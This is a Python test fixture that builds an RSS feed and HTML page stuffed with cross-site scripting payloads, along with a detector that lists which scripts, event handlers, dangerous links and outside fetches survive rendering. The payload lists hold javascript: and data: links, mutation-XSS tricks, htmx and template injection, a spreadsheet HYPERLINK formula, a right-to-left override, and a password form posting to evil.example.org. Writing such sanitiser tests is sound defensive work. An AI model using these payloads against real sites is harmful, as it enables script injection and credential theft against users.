"""An entry of a feed that tries all ways to be run by whoever looks at it, and how a page shows that it was not."""

from html import escape

from selectolax.lexbor import LexborHTMLParser

RUN = "window.canary='{}'"
LINKS = ("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "data:text/html,<script>{}</script>",
         "vbscript:{}", "//evil.example.org/{}")  # fmt: skip
MARKUP = (
    "<script>{}</script>",
    "<svg onload={}>",
    "<img src=x onerror={}>",
    "<img src='https://evil.example.org/pixel.png'>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<form action='https://evil.example.org/'><input name=password><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<details open ontoggle={}>",
    "<style>*{{background:url('https://evil.example.org/x')}}</style>",
    "<p style='position:fixed;inset:0' onmouseover={}>all over</p>",
    "<base href='https://evil.example.org/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org/'>",
    "<link rel=stylesheet href='https://evil.example.org/x.css'>",
    "<math><mtext></p><style><a title='</style><img src=x onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><script>{}</script>",
    "<!--><script>{}</script>-->",
    "'\"><script>{}</script>",
    "{{{{ 7 * 7 }}}}{{% load x %}}<div hx-get='https://evil.example.org/' hx-trigger=load hx-on:click={}>",
)
RIGHT_TO_LEFT = "\u202egnp.\u202c"
FORMULA = '=HYPERLINK("https://evil.example.org")'

LEADING = {"src", "href", "action", "data", "poster", "hx-get", "hx-post"}


def marks(place: str) -> str:
    return "".join(markup.format(RUN.format(place)) for markup in MARKUP)


def feed(address: str) -> bytes:
    """Hostile in every field; each field once as text that is shown, once as the markup that it is."""
    items = []
    links = [f"{address}/page", *(link.format(RUN.format("link")) for link in LINKS)]
    for number, link in enumerate(links):
        title = f"{FORMULA} {RIGHT_TO_LEFT} Statement {number} {marks('title')}"
        fields = {
            "title": title if number % 2 else escape(title),
            "link": link,
            "guid": f"{number}{marks('guid')}",
            "description": f'A lead. {marks("lead")} <a href="{link}">here</a>',
            "author": f"press@example.org ({marks('author')})",
            "category": f"Speech{marks('category')}",
        }
        inner = "".join(f"<{name}>{escape(text)}</{name}>" for name, text in fields.items())
        media = f'<media:content url="{escape(link)}" medium="image"/><enclosure url="{escape(link)}"/>'
        items.append(f"<item>{inner}{media}</item>")
    return (
        '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>'
        f"<title>{escape(marks('name'))}</title><language>en</language>{''.join(items)}</channel></rss>"
    ).encode()


def page() -> bytes:
    body = f"<h1>{marks('h1')}A statement</h1><p>{marks('body')}The whole text, as the institution has it.</p>" * 2
    return f"<!doctype html><html lang=en><head><title>x</title></head><body><main>{body}</main></body></html>".encode()


def found_in(html: str) -> list[str]:
    """What a browser would run, ask from another machine, or be led away by."""
    tree = LexborHTMLParser(html)
    found = []
    for node in tree.css("*"):
        told = {name: (value or "") for name, value in node.attributes.items()}
        own = node.tag == "script" and told.get("src", "").startswith("/static/") and not node.text().strip()
        if node.tag in {"script", "style", "iframe", "object", "embed", "base", "math", "noscript"} and not own:
            found.append(f"<{node.tag}>")
        if node.tag == "meta" and "http-equiv" in told:
            found.append("<meta http-equiv>")
        for name, value in told.items():
            address = "".join(value.split()).lower()
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc", "formaction"}:
                found.append(f"{node.tag}[{name}]")
            elif name == "href" and node.tag == "a":
                if not address.startswith(("/", "#", "?", "http://", "https://")) or address.startswith("//"):
                    found.append(f"a[href={value[:40]}]")
            elif name in LEADING and node.tag != "a" and (address[:1] not in "/?#" or address.startswith("//")):
                found.append(f"{node.tag}[{name}={value[:40]}]")
    return found
